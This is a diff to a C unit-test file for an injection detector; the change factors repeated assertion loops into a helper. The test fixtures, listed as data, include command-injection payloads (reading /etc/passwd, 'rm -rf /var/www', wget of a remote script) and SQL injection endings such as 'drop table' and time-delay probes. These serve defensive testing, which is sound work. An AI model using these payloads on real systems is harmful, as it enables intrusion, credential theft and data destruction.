@@ -92,6 +92,16 @@ Test(webstruct, free_text_needs_a_break_out)
     cr_assert_eq(fk_webstruct_param_field("p", 1), FK_WS_PARAM);
 }
 
+/* Every value of a list has one of the breaks of mask (want), or none of them. */
+static void expect_breaks(const char *const *values, size_t n, unsigned mask, bool want)
+{
+    for (size_t i = 0; i < n; i++)
+        cr_assert_eq((fk_webstruct_text_breaks(values[i], strlen(values[i])) & mask) != 0, want,
+                     "%s", values[i]);
+}
+#define EXPECT_BREAKS(list, mask, want)                                                            \
+    expect_breaks(list, sizeof list / sizeof list[0], mask, want)
+
 /* In what people write, a break after words (a separator, a line break, a comment) is
  * part of the writing; an injection puts it at the head, after the one argument the
  * application expected, or ends the value with a comment. */
@@ -109,10 +119,7 @@ Test(webstruct, free_text_breaks_only_at_its_head)
         "Try git fetch --all; git reset --hard origin/main",
         "```sh\n$ make clean && make -j4\n```\nThanks, that fixed it!"};
     EXPECT_READS(shell, FK_WS_TEXT, prose, false);
-    for (size_t i = 0; i < sizeof prose / sizeof prose[0]; i++)
-        cr_assert_not(fk_webstruct_text_breaks(prose[i], strlen(prose[i])) &
-                          (FK_WS_BREAK_SHELL | FK_WS_BREAK_STATEMENT),
-                      "%s", prose[i]);
+    EXPECT_BREAKS(prose, FK_WS_BREAK_SHELL | FK_WS_BREAK_STATEMENT, false);
     static const char *const injected[] = {
         "127.0.0.1 && cat /etc/passwd",
         "report.pdf; rm -rf /var/www",
@@ -121,14 +128,10 @@ Test(webstruct, free_text_breaks_only_at_its_head)
         "https://example.org/?a=1&b=2;wget http://203.0.113.5/x.sh",
         "\ncat /etc/passwd;"};
     EXPECT_READS(shell, FK_WS_TEXT, injected, true);
-    for (size_t i = 0; i < sizeof injected / sizeof injected[0]; i++)
-        cr_assert(fk_webstruct_text_breaks(injected[i], strlen(injected[i])) & FK_WS_BREAK_SHELL,
-                  "%s", injected[i]);
+    EXPECT_BREAKS(injected, FK_WS_BREAK_SHELL, true);
     static const char *const ended[] = {"1; drop table t", "1 waitfor delay '0:0:5'--",
                                         "1) or sleep(5)#", "1 and 1=1 -- -"};
-    for (size_t i = 0; i < sizeof ended / sizeof ended[0]; i++)
-        cr_assert(fk_webstruct_text_breaks(ended[i], strlen(ended[i])) & FK_WS_BREAK_STATEMENT,
-                  "%s", ended[i]);
+    EXPECT_BREAKS(ended, FK_WS_BREAK_STATEMENT, true);
 }
 
 Test(webstruct, sql_shapes_in_each_quoting_context)
